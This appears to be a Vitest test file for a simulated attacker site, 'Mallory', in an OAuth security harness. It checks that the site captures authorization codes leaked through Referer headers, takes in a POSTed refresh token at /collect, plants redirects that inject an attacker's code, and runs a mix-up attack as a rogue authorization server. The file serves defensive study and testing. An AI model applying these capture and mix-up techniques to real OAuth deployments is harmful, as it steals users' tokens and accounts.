import { describe, expect, it } from 'vitest'
import { createAttackerSite } from './attacker-site.ts'

const SITE = 'https://mallory.example'
const site = () =>
  createAttackerSite({
    mixUp: {
      honestAuthorizationEndpoint: 'https://auth.photos.example/authorize',
      clientIds: { 'printshop-web': 'photo-spa' },
    },
  })

describe('Mallory’s site', () => {
  it('logs every request with its Referer, Origin and body: all that she learns', async () => {
    const mallory = site()
    await mallory.fetch(
      new Request(`${SITE}/prints/sunset.svg`, {
        headers: { Referer: 'https://spa.printshop.example/gallery/mallory?code=C' },
      }),
    )
    const collected = await mallory.fetch(
      new Request(`${SITE}/collect`, {
        method: 'POST',
        body: 'refresh_token=R',
        headers: { Origin: 'https://spa.printshop.example' },
      }),
    )
    expect(collected.status).toBe(204)
    expect(mallory.received()).toEqual([
      {
        method: 'GET',
        url: `${SITE}/prints/sunset.svg`,
        referer: 'https://spa.printshop.example/gallery/mallory?code=C',
        origin: null,
        body: null,
      },
      {
        method: 'POST',
        url: `${SITE}/collect`,
        referer: null,
        origin: 'https://spa.printshop.example',
        body: 'refresh_token=R',
      },
    ])
    mallory.clear()
    expect(mallory.received()).toEqual([])
  })

  it('serves her prints as images and anything else as a plain note', async () => {
    const mallory = site()
    const image = await mallory.fetch(new Request(`${SITE}/prints/sunset.svg`))
    expect(image.headers.get('content-type')).toBe('image/svg+xml')
    const other = await mallory.fetch(new Request(`${SITE}/`))
    expect(await other.text()).toBe('mallory.example logged your visit to /.\n')
  })

  it('lets Mallory plant a page from her browser, and refuses a plant without a path or a URL', async () => {
    const mallory = site()
    const planted = await mallory.fetch(
      new Request(
        `${SITE}/plant?path=/win&to=${encodeURIComponent('https://spa.printshop.example/callback?code=M')}`,
      ),
    )
    expect(await planted.text()).toBe(
      'mallory.example/win now sends its visitors on to spa.printshop.example.\n',
    )
    expect((await mallory.fetch(new Request(`${SITE}/win`))).headers.get('location')).toBe(
      'https://spa.printshop.example/callback?code=M',
    )
    expect((await mallory.fetch(new Request(`${SITE}/plant?path=win&to=x`))).status).toBe(400)
  })

  it('sends visitors of a planted page on with 303, until a fresh run clears it', async () => {
    const mallory = site()
    mallory.plant('/free-prints', 'https://spa.printshop.example/callback?code=M')
    const response = await mallory.fetch(new Request(`${SITE}/free-prints`))
    expect(response.status).toBe(303)
    expect(response.headers.get('location')).toBe('https://spa.printshop.example/callback?code=M')
    mallory.clear()
    expect((await mallory.fetch(new Request(`${SITE}/free-prints`))).status).toBe(200)
  })

  it('as an authorization server, bounces the browser to the honest one with the client’s id there (RFC 9700 §4.4.1)', async () => {
    const mallory = site()
    const metadata = await mallory.fetch(
      new Request(`${SITE}/.well-known/oauth-authorization-server`),
    )
    expect(await metadata.json()).toMatchObject({
      issuer: SITE,
      authorization_endpoint: `${SITE}/authorize`,
      token_endpoint: `${SITE}/token`,
    })
    const bounce = await mallory.fetch(
      new Request(`${SITE}/authorize?response_type=code&client_id=printshop-web&state=S`),
    )
    expect(bounce.status).toBe(303)
    expect(bounce.headers.get('location')).toBe(
      'https://auth.photos.example/authorize?response_type=code&client_id=photo-spa&state=S',
    )
  })

  it('keeps what reaches her token endpoint and answers with an ordinary error', async () => {
    const mallory = site()
    const body = 'grant_type=authorization_code&code=C&code_verifier=V'
    const response = await mallory.fetch(new Request(`${SITE}/token`, { method: 'POST', body }))
    expect(response.status).toBe(400)
    expect(await response.json()).toMatchObject({ error: 'invalid_grant' })
    expect(mallory.received().at(-1)?.body).toBe(body)
  })
})
